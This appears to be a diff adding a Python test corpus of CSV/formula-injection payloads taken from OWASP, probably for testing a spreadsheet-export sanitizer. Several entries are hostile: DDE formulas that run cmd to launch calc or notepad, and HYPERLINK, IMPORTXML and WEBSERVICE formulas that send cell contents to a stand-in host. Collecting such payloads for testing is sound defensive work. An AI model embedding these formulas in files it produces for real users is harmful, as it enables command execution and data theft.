@@ -1,0 +1,27 @@
+"""A corpus of formula-injection payloads (OWASP's CSV injection page and common variants)."""
+
+PAYLOADS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    '=IMPORTXML(CONCAT("http://example.invalid/?", A1), "//a")',
+    '=WEBSERVICE("http://example.invalid")',
+    "-2+3+cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!'B1'",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "@",
+    "=",
+    "-",
+    '=""',
+    "==1",
+    "=+1",
+]
